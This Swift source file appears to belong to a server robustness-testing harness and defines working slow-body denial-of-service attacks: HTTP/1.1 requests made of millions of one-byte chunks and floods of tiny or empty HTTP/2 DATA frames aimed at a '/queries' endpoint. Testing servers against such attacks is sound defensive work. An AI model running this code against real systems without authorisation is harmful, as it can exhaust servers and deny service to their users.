/// Contents in the smallest pieces: each costs the attacker a few bytes and the server a turn.
enum PieceAttacks: AttackFamily {
    static let attacks = [
        Attack(
            name: "pieces.one-connection",
            summary: "6 MB of HTTP/1.1 chunks of one byte on one connection",
            limits: limits, run: { chunks($0, connections: 1) }),
        Attack(
            name: "pieces.eight-connections",
            summary: "6 MB of HTTP/1.1 chunks of one byte on each of eight connections",
            limits: limits, run: { chunks($0, connections: 8) }),
        Attack(
            name: "pieces.http2-bytes",
            summary: "HTTP/2 DATA frames of one byte, up to the window, on four connections",
            limits: limits, run: { dataFrames($0, content: [0x78], count: 60_000) }),
        Attack(
            name: "pieces.http2-empty",
            summary: "HTTP/2 DATA frames without content on four connections",
            limits: limits, run: { dataFrames($0, content: [], count: .max) }),
    ]

    private static let limits = AttackLimits(cost: .perByte(3))
    private static let chunkedByteCount = 6_000_000

    private static func chunks(_ target: Target, connections: Int) {
        let chunk = Array("1\r\nx\r\n".utf8)
        let block = Array(repeatElement(chunk, count: 10_000).joined())
        target.together(connections) { _ in
            guard let connection = target.connect() else { return target.log.answered("no connection") }
            connection.send(
                "POST /queries HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n",
                until: target.deadline)
            var sent = 0
            var received = RawConnection.Received()
            while sent < chunkedByteCount, received.bytes.isEmpty, !received.isClosed, !target.isOver {
                let count = connection.send(block, until: target.deadline)
                target.log.tried(count / chunk.count, byteCount: count)
                sent += count
                received = connection.receiveNow()
                if count < block.count { break }
            }
            if received.bytes.isEmpty, !received.isClosed {
                connection.send("0\r\n\r\n", until: target.deadline)
                received = connection.receive(until: target.answerDeadline) { !$0.isEmpty }
            }
            target.log.answered(
                HTTPPeer.answer(in: received.bytes).map { "\($0.status)" }
                    ?? (received.isClosed ? "closed" : "open"))
        }
    }

    /// Whether the server has answered, or will not.
    private static func isEnough(_ bytes: [UInt8]) -> Bool {
        HTTP2Frame.has(.goAway, in: bytes) || HTTP2Frame.has(.headers, in: bytes)
    }

    private static func dataFrames(_ target: Target, content: [UInt8], count: Int) {
        let frame = HTTP2Frame(kind: .data, stream: 1, payload: content).bytes
        let block = Array(repeatElement(frame, count: 1_000).joined())
        let end = HTTP2Frame(kind: .data, flags: HTTP2Frame.endStream, stream: 1).bytes
        target.together(4) { _ in
            while !target.isOver {
                guard let connection = target.connect() else { return target.log.answered("no connection") }
                connection.send(
                    HTTP2Frame.preface + HTTP2Frame.head(.post, "/queries", stream: 1).bytes,
                    until: target.deadline)
                var frames = 0
                var received = RawConnection.Received()
                while frames < count, !received.isClosed, !isEnough(received.bytes), !target.isOver {
                    let sent = connection.send(block, until: target.deadline)
                    frames += 1_000
                    target.log.tried(sent / frame.count, byteCount: sent)
                    received = connection.receiveNow()
                    if sent < block.count { break }
                }
                connection.send(end, until: target.deadline)
                let last = connection.receive(until: target.deadline, isEnough: isEnough)
                let isClosed = last.isClosed || HTTP2Frame.has(.goAway, in: received.bytes + last.bytes)
                target.log.answered(
                    HTTP2Frame.has(.headers, in: last.bytes) ? "answered" : isClosed ? "closed" : "open")
            }
        }
    }
}
